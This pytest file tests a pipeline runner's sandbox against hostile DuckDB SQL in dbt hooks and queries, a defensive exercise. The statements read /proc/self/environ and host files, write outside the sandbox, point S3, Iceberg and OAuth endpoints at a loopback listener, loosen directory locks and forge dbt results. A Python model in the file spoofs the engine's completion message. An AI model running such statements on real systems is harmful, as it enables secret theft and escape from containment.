"""SQL of hostile intent, as a hook of a dbt project and as a query: none of it leads out, and the run says which."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path
from threading import Thread

import duckdb
import pytest

from runner.model.errors import Category
from runner.model.manifest import Manifest, State
from tests.e2e.test_bad_input import extract, load, query
from tests.support.documents import PEOPLE_CONTRACT
from tests.support.site import Site

HIDDEN = "what only the worker may read"


class Listener:
    """A server on loopback that notes who connects, for all that could be sent somewhere."""

    def __init__(self) -> None:
        self.heard = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        self._thread = Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.heard += 1
            connection.close()

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture(scope="module")
def place(site: Site, listener: Listener, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """What there is to be had: a table that no job of this module declares, a folder and a file of the worker's."""
    commit = site.commit({"contracts/people.odcs.yaml": PEOPLE_CONTRACT})
    assert site.end(extract(site, commit, site.serve("people.csv", "id,name\n1,Ada\n"))).failure is None
    loaded = site.end(load(site, commit))
    assert loaded.failure is None
    folder = tmp_path_factory.mktemp("outside")
    folder.chmod(0o777)
    (folder / "file.txt").write_text(HIDDEN)
    data = loaded.outputs[0].files[0].uri
    metadata = site.app.tables.pin("staging.people", "p", None).metadata
    assert metadata is not None
    return {
        "folder": str(folder),
        "file": str(folder / "file.txt"),
        "port": str(listener.port),
        "data": data,
        "metadata": metadata,
        "prefix": data.rpartition("/")[0],
    }


STATEMENTS = {
    "write a file of the machine's": "COPY (SELECT 1 AS a) TO '{folder}/left.csv'",
    "read a file of the machine's": "CREATE TABLE t AS FROM read_text('{file}')",
    "read itself by the kernel's folder": "CREATE TABLE t AS FROM read_text('/proc/self/environ')",
    "list a folder of the machine's": "CREATE TABLE t AS FROM glob('{folder}/*')",
    "attach a database elsewhere": "ATTACH '{folder}/left.duckdb' AS elsewhere",
    "leave a view that reads with another's rights": "CREATE VIEW v AS FROM read_text('{file}')",
    "install an extension": "INSTALL httpfs",
    "load an extension": "LOAD httpfs",
    "load an extension from a file": "LOAD '{folder}/left.duckdb_extension'",
    "read by http": "CREATE TABLE t AS FROM read_csv('http://127.0.0.1:{port}/x.csv')",
    "name another endpoint in a path": "CREATE TABLE t AS FROM read_parquet('{data}?s3_endpoint=127.0.0.1:{port}')",
    "keep a secret for another endpoint": (
        "CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y', ENDPOINT '127.0.0.1:{port}', USE_SSL false)"
    ),
    "attach a catalog elsewhere": (
        "ATTACH 'warehouse' AS elsewhere (TYPE iceberg, ENDPOINT 'http://127.0.0.1:{port}', AUTHORIZATION_TYPE 'none')"
    ),
    "ask another server for a token": (
        "CREATE SECRET s (TYPE iceberg, CLIENT_ID 'x', CLIENT_SECRET 'y', "
        "OAUTH2_SERVER_URI 'http://127.0.0.1:{port}/token')"
    ),
    "read a table that is not declared": "CREATE TABLE t AS FROM iceberg_scan('{metadata}')",
    "read a file of a table that is not declared": "CREATE TABLE t AS FROM read_parquet('{data}')",
    "read what another bucket holds": "CREATE TABLE t AS FROM read_parquet('s3://another-bucket/x.parquet')",
    "write to another table's prefix": "COPY (SELECT 1 AS a) TO '{prefix}/left.parquet'",
    "forge what dbt says of its tests": "COPY (SELECT 1 AS a) TO '../scratch/target/run_results.json'",
    "forge an output": "COPY (SELECT 1 AS a) TO '../scratch/out/left.parquet'",
    "look at more than it may": "SET allowed_directories = ['/']",
    "open the lock": "SET lock_configuration = false",
    "take more memory": "SET memory_limit = '1TB'",
    "spill elsewhere": "SET temp_directory = '{folder}'",
}


def run(site: Site, statement: str) -> Manifest:
    """A dbt job whose only hostile part is a hook with this statement."""
    project = f"name: hostile\nprofile: hostile\nversion: 1.0.0\non-run-start: [{statement!r}]\n"
    commit = site.commit({"dbt_project.yml": project, "models/one.sql": "SELECT 1 AS one"})
    work = {"kind": "dbt", "steps": [{"command": "build"}]}
    return site.end(site.spec(commit, "transform", work, outputs=[{"dataset": "attack.one", "from": "main.one"}]))


@pytest.mark.parametrize("attempt", STATEMENTS)
def test_a_hook_cannot(site: Site, place: dict[str, str], listener: Listener, attempt: str) -> None:
    statement = STATEMENTS[attempt].format(**place)
    before = listener.heard
    manifest = run(site, statement)
    assert manifest.state is State.FAILED
    assert manifest.failure is not None
    assert manifest.failure.category is Category.LOGIC
    assert manifest.outputs == ()
    assert listener.heard == before
    assert [path.name for path in Path(place["folder"]).iterdir()] == ["file.txt"]
    assert HIDDEN not in manifest.to_json()
    assert not any("left" in key for key in site.app.objects.list("tables/"))


def test_a_harmless_hook_works(site: Site) -> None:
    """The control: it is the statement that fails, and not the hook."""
    assert run(site, "CREATE TABLE t AS SELECT 1 AS one").state is State.SUCCEEDED


def test_the_listener_hears() -> None:
    """The control: nobody was heard because nobody came."""
    listener = Listener()
    with socket.create_connection(("127.0.0.1", listener.port)) as connection:
        assert connection.recv(1) == b""
    listener.close()
    assert listener.heard == 1


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM read_text('{file}')",
        "SELECT * FROM '{file}'",
        "SELECT * FROM read_parquet('{data}')",
        "SELECT * FROM iceberg_scan('{metadata}')",
        "SELECT * FROM read_csv('http://127.0.0.1:{port}/x.csv')",
        "SELECT * FROM read_text('../../log.jsonl')",
        "SELECT * FROM read_text('../scratch/tmp')",
    ],
)
def test_a_query_cannot(site: Site, place: dict[str, str], listener: Listener, sql: str) -> None:
    commit = site.commit({"queries/count.sql": sql.format(**place)})
    before = listener.heard
    manifest = site.end(query(site, commit).model_copy(update={"inputs": ()}))
    assert manifest.failure is not None
    assert manifest.failure.category is Category.LOGIC
    assert manifest.outputs == ()
    assert listener.heard == before
    assert HIDDEN not in manifest.to_json()


def test_a_bucket_is_not_listed(site: Site, place: dict[str, str]) -> None:
    pattern = f"{place['prefix']}/*"
    commit = site.commit({"queries/count.sql": f"SELECT file FROM glob('{pattern}')"})
    manifest = site.end(query(site, commit).model_copy(update={"inputs": ()}))
    assert manifest.state is State.SUCCEEDED, manifest.failure
    assert site.rows("marts.people_count") == [(pattern,)]  # what it asked for, and nothing that is there


def test_a_declared_table_gives_no_right_to_its_other_snapshots(site: Site, place: dict[str, str]) -> None:
    old = place["data"]
    commit = site.commit({"contracts/people.odcs.yaml": PEOPLE_CONTRACT})
    assert site.end(extract(site, commit, site.serve("people.csv", "id,name\n1,Ada\n2,Grace\n"))).failure is None
    assert site.end(load(site, commit)).failure is None
    sneaking = site.commit({"queries/count.sql": f"SELECT count(*)::BIGINT AS people FROM read_parquet('{old}')"})
    manifest = site.end(query(site, sneaking))
    assert manifest.failure is not None
    assert "a file of no declared input" in manifest.failure.message


def test_a_model_that_speaks_for_its_engine_changes_no_record_but_its_own(site: Site) -> None:
    """A Python model runs in the engine's own process, and can say anything in its place: this says that it is done."""
    model = (
        "import gc, json, os\n\n"
        "def model(dbt, session):\n"
        "    from runner.engines.wire import Wire\n"
        "    from runner.model.messages import Done, EngineResult\n"
        "    wire = next(each for each in gc.get_objects() if isinstance(each, Wire))\n"
        "    wire.send(Done(result=EngineResult(outputs=(), steps=(), packages={'duckdb': '9.9', 'no-such': '1'})))\n"
        "    os._exit(0)\n"
        "    return session.sql('SELECT 1 AS one')\n"
    )
    project = "name: hostile\nprofile: hostile\nversion: 1.0.0\n"
    commit = site.commit({"dbt_project.yml": project, "models/one.py": model})
    work = {"kind": "dbt", "steps": [{"command": "build"}]}
    manifest = site.end(site.spec(commit, "transform", work, outputs=[{"dataset": "attack.one", "from": "main.one"}]))
    assert manifest.state is State.FAILED
    assert manifest.outputs == ()
    assert manifest.report.software is not None
    assert manifest.report.software.packages == {"duckdb": duckdb.__version__}
    assert manifest.report.software.walls is not None
